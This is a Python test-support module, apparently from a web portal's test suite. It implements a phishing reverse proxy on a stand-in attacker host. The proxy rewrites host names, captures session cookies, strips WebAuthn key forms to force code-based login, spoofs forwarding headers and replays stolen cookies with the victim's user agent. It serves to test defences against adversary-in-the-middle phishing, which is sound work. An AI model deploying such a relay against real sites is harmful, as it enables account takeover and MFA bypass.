"""A phishing relay: a real reverse proxy on another host name, which passes all on and keeps what is worth it."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.client import HTTPConnection, HTTPResponse
from http.cookies import SimpleCookie
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

from tests.support.waiting import NET

EVIL = "evil.localhost"
HOP_BY_HOP = frozenset({"connection", "keep-alive", "transfer-encoding", "content-length", "accept-encoding"})
KEY_FORM = re.compile(r'<form class="mfa-webauthn".*?</form>', re.S)


@dataclass
class Relay:
    """What such a kit does with what passes through it.

    Attributes:
        portal: the address of the real portal.
        url: where people are lured to.
        rename: also write its own host name wherever the portal's stands in an answer, as an RP ID too.
        hide_keys: cut the forms for keys out of pages, so that a code is asked for.
        address: where it stands, as the portal's proxy would say; None where that is the person's own place.
        cookies: what the portal set through it, by name.
        agent: what the person's browser says it is, which the thief says as well.
    """

    portal: str
    url: str = ""
    rename: bool = False
    hide_keys: bool = False
    address: str | None = None
    cookies: dict[str, str] = field(default_factory=dict)
    agent: str = ""

    def forth(self, text: str) -> str:
        """What the victim's browser says, as the real site expects it."""
        return text.replace(self.url, self.portal).replace(urlsplit(self.url).netloc, urlsplit(self.portal).netloc)

    def back(self, text: str) -> str:
        """What the real site says, as the victim's browser expects it."""
        text = text.replace(self.portal, self.url).replace(urlsplit(self.portal).netloc, urlsplit(self.url).netloc)
        if self.rename:
            text = text.replace(urlsplit(self.portal).hostname or "", EVIL)
        return KEY_FORM.sub("", text) if self.hide_keys else text

    def keep(self, set_cookie: str) -> None:
        for name, morsel in SimpleCookie(set_cookie).items():
            self.cookies[name] = morsel.value

    def steals(self, method: str, path: str) -> tuple[int, str]:
        """Use the kept cookies from the thief's own machine; status and body."""
        worth = "; ".join(f"{name}={value}" for name, value in self.cookies.items())
        said = {"Cookie": worth, "Accept": "text/html", "User-Agent": self.agent}
        status, _, body = self.ask(method, path, said, b"")
        return status, body.decode()

    def ask(self, method: str, path: str, headers: dict[str, str], body: bytes) -> tuple[int, Any, bytes]:
        parts = urlsplit(self.portal)
        if self.address is not None:
            headers = {**headers, "X-Forwarded-For": self.address}
        line = HTTPConnection("127.0.0.1", parts.port or 80, timeout=NET)
        try:
            line.request(method, path, body or None, {**headers, "Host": parts.netloc})
            answer: HTTPResponse = line.getresponse()
            return answer.status, answer.headers, answer.read()
        finally:
            line.close()


def handler_of(relay: Relay) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            passed = {name: value for name, value in self.headers.items() if name.lower() not in HOP_BY_HOP}
            headers = {name: relay.forth(value) for name, value in passed.items() if name.lower() != "host"}
            headers["X-Forwarded-Host"] = self.headers["Host"]
            relay.agent = self.headers.get("User-Agent", "")
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            status, given, answer = relay.ask(self.command, self.path, headers, body)
            if given.get_content_maintype() == "text" or given.get_content_type().endswith("json"):
                answer = relay.back(answer.decode()).encode()
            self.send_response(status)
            for name, value in given.items():
                if name.lower() == "set-cookie":
                    relay.keep(value)
                if name.lower() not in HOP_BY_HOP:
                    self.send_header(name, relay.back(value))
            self.send_header("Content-Length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer)

        do_POST = do_GET

        def log_message(self, *_: Any) -> None:
            pass

    return Handler


@contextmanager
def relaying(portal: str, **does: Any) -> Iterator[Relay]:
    """Stand between people and the portal at this address."""
    relay = Relay(portal, **does)
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler_of(relay))
    relay.url = f"http://{EVIL}:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield relay
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
